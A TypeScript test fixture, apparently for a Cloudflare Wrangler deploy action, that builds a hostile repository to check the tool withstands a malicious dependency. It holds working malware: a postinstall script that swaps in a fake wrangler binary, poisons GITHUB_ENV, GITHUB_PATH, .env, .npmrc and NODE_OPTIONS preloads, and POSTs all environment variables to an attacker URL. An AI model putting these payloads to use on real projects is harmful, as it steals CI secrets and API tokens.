import { fileURLToPath } from 'node:url'

const wrangler = fileURLToPath(new URL('../../node_modules/wrangler/bin/wrangler.js', import.meta.url))

/** A program that sends home how it was called, and everything in its environment. */
function tell(evilUrl: string, by: string): string {
  return `fetch(${JSON.stringify(`${evilUrl}/stolen/by-${by}`)}, { method: 'POST', body: 'environment of ${by} ' + process.argv.slice(2).join(' ') + ' ' + JSON.stringify(process.env) })`
}

/** What a bad dependency would put in place of wrangler: it bundles, and tells on its environment. (A planted link ends the build: build-directory.test.ts.) */
function falseWrangler(evilUrl: string): string {
  return `#!/usr/bin/env node
const { spawnSync } = require('node:child_process')
const args = process.argv.slice(2)
const { status } = spawnSync(process.execPath, [${JSON.stringify(wrangler)}, ...args], { stdio: 'inherit' })
${tell(evilUrl, 'wrangler')}.finally(() => process.exit(status))
`
}

/** Runs when npm installs the dependency: it bends whatever a later step could read. */
function attack(evilUrl: string): string {
  return `const fs = require('node:fs')
const { join } = require('node:path')
const root = process.env.GITHUB_WORKSPACE
const put = (path, text, mode) => {
  const file = join(root, path)
  fs.mkdirSync(join(file, '..'), { recursive: true })
  fs.rmSync(file, { force: true })
  fs.writeFileSync(file, text)
  if (mode !== undefined) fs.chmodSync(file, mode)
}
put('node_modules/.bin/wrangler', ${JSON.stringify(falseWrangler(evilUrl))}, 0o755)
put('.env', ${JSON.stringify(`CLOUDFLARE_API_BASE_URL=${evilUrl}/from-dotenv\nWRANGLER_LOG=debug\n`)})
put('.wrangler/deploy/config.json', '{"configPath":"../../evil.json"}')
put('evil.json', '{"name":"evil","main":"src/index.js","compatibility_date":"2026-01-01"}')
fs.appendFileSync(process.env.GITHUB_ENV, 'CLOUDFLARE_API_BASE_URL=' + ${JSON.stringify(evilUrl)} + '/from-github-env\\nBASH_ENV=' + join(root, 'evil.sh') + '\\n')
fs.appendFileSync(process.env.GITHUB_ENV, 'npm_config_node_options=--require ' + join(root, 'evil/preload.cjs') + '\\n')
fs.appendFileSync(process.env.GITHUB_PATH, join(root, 'node_modules/.bin') + '\\n')
${tell(evilUrl, 'postinstall')}
`
}

/** Files of a repository whose dependency is hostile; what a person would overlook in a review is in there too. */
export function hostileFiles(evilUrl: string): Readonly<Record<string, string>> {
  return {
    'package.json': JSON.stringify({ name: 'shop', private: true, dependencies: { evil: 'file:./evil' } }),
    'evil/package.json': JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { postinstall: 'node attack.cjs' } }),
    'evil/attack.cjs': attack(evilUrl),
    'evil/preload.cjs': tell(evilUrl, 'preload'),
    // Committed, so that the deploy job's own checkout holds them.
    '.env': `CLOUDFLARE_API_BASE_URL=${evilUrl}/from-committed-dotenv\nNODE_OPTIONS=--require ./evil/preload.cjs\n`,
    '.dev.vars': `CLOUDFLARE_API_BASE_URL=${evilUrl}/from-dev-vars\n`,
    '.npmrc': 'node-options=--require ${GITHUB_WORKSPACE}/evil/preload.cjs\n',
    'node_modules/wrangler/package.json': JSON.stringify({ name: 'wrangler', version: '4.164.0', bin: { wrangler: 'bin/wrangler.js' } }),
    'node_modules/wrangler/bin/wrangler.js': falseWrangler(evilUrl),
  }
}
